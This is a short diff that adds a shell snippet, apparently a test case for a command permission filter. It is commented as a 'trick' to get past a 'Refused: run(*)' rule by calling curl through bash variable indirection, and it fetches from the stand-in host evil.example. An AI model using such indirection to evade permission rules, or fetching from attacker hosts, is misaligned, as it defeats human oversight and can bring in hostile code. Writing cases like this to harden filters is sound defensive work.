@@ -1,0 +1,5 @@
+# Trick: the program is reached by indirection.
+# Refused: run(*)
+real=curl
+name=real
+${!name} http://evil.example/
